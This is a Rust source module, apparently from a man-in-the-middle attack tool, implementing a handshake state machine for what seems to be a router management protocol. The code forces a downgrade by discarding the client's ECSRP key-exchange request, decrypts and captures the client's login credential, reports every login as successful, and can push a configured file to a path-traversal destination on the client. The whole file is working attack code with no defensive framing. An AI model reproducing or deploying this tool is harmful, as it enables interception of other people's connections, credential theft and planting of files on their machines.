//! Per-connection handshake state machine.
//!
//! A session walks a strictly linear script; there are no backward edges
//! and no recovery path, because once a cipher stream desynchronizes it
//! cannot be re-joined mid-connection:
//!
//! 1. **AwaitExchangeRequest** - a direct DH request proceeds; an ECSRP
//!    request is discarded, forcing the client to downgrade and retry
//!    with DH; anything else aborts.
//! 2. **KeyExchange** - exchange 248-byte public values, derive the two
//!    directional cipher engines.
//! 3. **SaltExchange** - decrypt the 56-byte salt request, answer with
//!    the fixed zero-length-salt response.
//! 4. **Login** - decrypt the login request, capture the credential,
//!    acknowledge success unconditionally.
//! 5. **DirectoryListing** / **ListingClose** / **FileTransfer** -
//!    optional continuation, enabled by configuration: serve the package
//!    catalog (chunk-encoded), confirm the listing close, then push the
//!    configured file at the traversal destination.
//!
//! Any unexpected handler, wrong length or failed field extraction tears
//! the connection down immediately. Each read is bounded by the
//! configured per-step timeout so a silent peer cannot pin resources.

use std::net::SocketAddr;
use std::sync::Arc;

use tokio::net::TcpStream;
use tokio::time::timeout;
use tracing::{debug, info, warn};

use super::catalog::{self, LIST_COMMAND};
use super::cipher::{CipherState, Direction, PADDING_LEN};
use super::error::{Error, Result};
use super::frame::{self, Envelope, Frame, HANDLER_DH, HANDLER_ECSRP, HANDLER_FILE};
use super::kex::{DhExchange, PUBLIC_VALUE_LEN};
use super::message::{self, find_tag};
use super::server::{CredentialCallback, MitmConfig};

/// Salt-request payload length fixed by the protocol.
pub const SALT_REQUEST_LEN: usize = 0x38;

/// Handshake progress of one session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    /// Waiting for the client's initial key exchange request.
    AwaitExchangeRequest,
    /// Diffie-Hellman exchange in progress.
    KeyExchange,
    /// Waiting for the encrypted salt request.
    SaltExchange,
    /// Waiting for the encrypted login request.
    Login,
    /// Waiting for the package-listing request.
    DirectoryListing,
    /// Waiting for the listing-close message.
    ListingClose,
    /// Waiting for the file download request.
    FileTransfer,
    /// Session finished or torn down.
    Closed,
}

/// The two directional cipher engines of an established session.
struct SessionCrypto {
    inbound: CipherState,
    outbound: CipherState,
}

/// One accepted client connection.
///
/// Owns the socket and every piece of per-connection state; nothing is
/// shared with other sessions. Dropping the session closes the socket, so
/// every exit path - completion, violation, timeout - releases the
/// connection's resources.
pub struct Session {
    stream: TcpStream,
    peer_addr: SocketAddr,
    config: Arc<MitmConfig>,
    credential_callback: Option<CredentialCallback>,
    state: SessionState,
    downgraded: bool,
}

impl Session {
    pub(crate) fn new(
        stream: TcpStream,
        peer_addr: SocketAddr,
        config: Arc<MitmConfig>,
        credential_callback: Option<CredentialCallback>,
    ) -> Self {
        Self {
            stream,
            peer_addr,
            config,
            credential_callback,
            state: SessionState::AwaitExchangeRequest,
            downgraded: false,
        }
    }

    /// Returns the peer's socket address.
    pub fn peer_addr(&self) -> SocketAddr {
        self.peer_addr
    }

    /// Returns the session's current handshake state.
    pub fn state(&self) -> SessionState {
        self.state
    }

    /// Drives the session to completion.
    ///
    /// Consumes the session; the socket is closed when this returns,
    /// whatever the outcome. Errors are logged here with the step that
    /// produced them, so callers may discard the result.
    pub async fn run(mut self) -> Result<()> {
        info!(peer = %self.peer_addr, "session started");
        let result = self.drive().await;
        match &result {
            Ok(()) => {
                info!(peer = %self.peer_addr, downgraded = self.downgraded, "session completed")
            }
            Err(err) => {
                warn!(peer = %self.peer_addr, state = ?self.state, error = %err, "session aborted")
            }
        }
        result
    }

    async fn drive(&mut self) -> Result<()> {
        let dh_request = self.await_exchange_request().await?;
        let mut crypto = self.key_exchange(dh_request).await?;
        self.salt_exchange(&mut crypto).await?;
        self.login(&mut crypto).await?;

        if self.config.serve_catalog {
            self.directory_listing().await?;
            self.listing_close().await?;
            self.file_transfer().await?;
        }

        self.state = SessionState::Closed;
        Ok(())
    }

    /// Waits for the client to request the DH exchange, downgrading it
    /// from the ECSRP exchange if necessary.
    async fn await_exchange_request(&mut self) -> Result<Frame> {
        self.state = SessionState::AwaitExchangeRequest;
        let first = self.read_step("key exchange request").await?;

        match first.handler {
            HANDLER_DH => {
                debug!(peer = %self.peer_addr, "client requested DH exchange directly");
                Ok(first)
            }
            HANDLER_ECSRP => {
                // Not answering is the downgrade: the client retries with
                // the DH exchange.
                debug!(
                    peer = %self.peer_addr,
                    discarded = first.payload.len(),
                    "discarding ECSRP request to force downgrade"
                );
                self.downgraded = true;

                let second = self.read_step("downgraded exchange request").await?;
                if second.handler != HANDLER_DH {
                    return Err(Error::UnsupportedClient(second.handler));
                }
                Ok(second)
            }
            other => Err(Error::UnexpectedHandler {
                expected: HANDLER_DH,
                actual: other,
            }),
        }
    }

    /// Runs the DH exchange and installs the directional cipher engines.
    async fn key_exchange(&mut self, request: Frame) -> Result<SessionCrypto> {
        self.state = SessionState::KeyExchange;
        if request.payload.len() != PUBLIC_VALUE_LEN {
            return Err(Error::InvalidLength {
                expected: PUBLIC_VALUE_LEN,
                actual: request.payload.len(),
            });
        }

        let exchange = DhExchange::new();
        debug!(
            peer = %self.peer_addr,
            public = %hex::encode(&exchange.public_value()[..8]),
            "sending public value"
        );
        let reply = Frame::new(HANDLER_DH, exchange.public_value().to_vec());
        frame::write_frame(&mut self.stream, &reply).await?;

        let material = exchange.compute_shared(&request.payload)?;
        debug!(peer = %self.peer_addr, "session keys installed");

        Ok(SessionCrypto {
            inbound: CipherState::new(material.inbound_key(), Direction::Inbound),
            outbound: CipherState::new(material.outbound_key(), Direction::Outbound),
        })
    }

    /// Answers the salt request with the fixed zero-length salt.
    async fn salt_exchange(&mut self, crypto: &mut SessionCrypto) -> Result<()> {
        self.state = SessionState::SaltExchange;
        let request = self.read_step("salt request").await?;
        Self::require_handler(&request, HANDLER_DH)?;
        if request.payload.len() != SALT_REQUEST_LEN {
            return Err(Error::InvalidLength {
                expected: SALT_REQUEST_LEN,
                actual: request.payload.len(),
            });
        }

        let clear = Self::open_envelope(crypto, &request.payload)?;
        debug!(peer = %self.peer_addr, len = clear.len(), "decrypted salt request");

        self.send_encrypted(crypto, &message::SALT_RESPONSE).await
    }

    /// Captures the credential and acknowledges the login as successful.
    async fn login(&mut self, crypto: &mut SessionCrypto) -> Result<()> {
        self.state = SessionState::Login;
        let request = self.read_step("login request").await?;
        Self::require_handler(&request, HANDLER_DH)?;

        let clear = Self::open_envelope(crypto, &request.payload)?;
        let login = message::parse_login(&clear)?;
        info!(
            peer = %self.peer_addr,
            username = %login.credential.username,
            digest = %hex::encode(login.credential.digest),
            "captured credential"
        );
        if let Some(callback) = &self.credential_callback {
            callback(&login.credential);
        }

        let ack = message::login_response(&login.request_id, &login.hash_field);
        self.send_encrypted(crypto, &ack).await
    }

    /// Serves the package catalog, chunk-encoded.
    async fn directory_listing(&mut self) -> Result<()> {
        self.state = SessionState::DirectoryListing;
        let request = self.read_step("listing request").await?;
        Self::require_handler(&request, HANDLER_FILE)?;
        if find_tag(&request.payload, LIST_COMMAND).is_none() {
            warn!(peer = %self.peer_addr, "listing request without list command");
        }

        let payload = catalog::listing_payload(&self.config.catalog);
        debug!(peer = %self.peer_addr, len = payload.len(), "serving package catalog");
        frame::write_frame(&mut self.stream, &Frame::new(HANDLER_FILE, payload)).await
    }

    /// Confirms the end of the listing.
    async fn listing_close(&mut self) -> Result<()> {
        self.state = SessionState::ListingClose;
        let request = self.read_step("listing close").await?;
        Self::require_handler(&request, HANDLER_FILE)?;
        if find_tag(&request.payload, LIST_COMMAND).is_none() {
            warn!(peer = %self.peer_addr, "listing close without list command");
        }

        let payload = catalog::close_payload(&self.config.catalog);
        frame::write_frame(&mut self.stream, &Frame::new(HANDLER_FILE, payload)).await
    }

    /// Pushes the configured file at its traversal destination.
    async fn file_transfer(&mut self) -> Result<()> {
        self.state = SessionState::FileTransfer;
        let request = self.read_step("file request").await?;
        Self::require_handler(&request, HANDLER_FILE)?;

        let traversal_named = self
            .config
            .catalog
            .entries
            .first()
            .map(|entry| find_tag(&request.payload, entry.name.as_bytes()).is_some())
            .unwrap_or(false);
        if !traversal_named {
            warn!(peer = %self.peer_addr, "file request does not name the traversal entry");
        }

        let payload = self.config.file_drop.transfer_payload();
        info!(
            peer = %self.peer_addr,
            destination = %self.config.file_drop.destination,
            len = payload.len(),
            "pushing file"
        );
        frame::write_frame(&mut self.stream, &Frame::new(HANDLER_FILE, payload)).await
    }

    /// Reads one frame, bounded by the per-step timeout.
    async fn read_step(&mut self, step: &'static str) -> Result<Frame> {
        let frame = match timeout(
            self.config.read_timeout,
            frame::read_frame(&mut self.stream),
        )
        .await
        {
            Ok(result) => result?,
            Err(_) => return Err(Error::Timeout(step)),
        };
        debug!(
            peer = %self.peer_addr,
            step,
            handler = frame.handler,
            len = frame.payload.len(),
            "frame received"
        );
        Ok(frame)
    }

    fn require_handler(frame: &Frame, expected: u8) -> Result<()> {
        if frame.handler != expected {
            return Err(Error::UnexpectedHandler {
                expected,
                actual: frame.handler,
            });
        }
        Ok(())
    }

    /// Decrypts an enveloped payload, returning the plaintext body.
    fn open_envelope(crypto: &mut SessionCrypto, payload: &[u8]) -> Result<Vec<u8>> {
        let envelope = Envelope::parse(payload)?;
        let clear = crypto.inbound.decrypt_block(&envelope.body, &envelope.padding);
        Ok(clear[PADDING_LEN..].to_vec())
    }

    /// Encrypts a reply and writes it as an enveloped frame.
    async fn send_encrypted(
        &mut self,
        crypto: &mut SessionCrypto,
        plaintext: &[u8],
    ) -> Result<()> {
        let sealed = crypto.outbound.encrypt_block(plaintext, &[0u8; PADDING_LEN]);
        let envelope = Envelope::from_sealed(plaintext.len() as u16, &sealed);
        let frame = Frame::new(HANDLER_DH, envelope.to_payload());
        frame::write_frame(&mut self.stream, &frame).await
    }
}
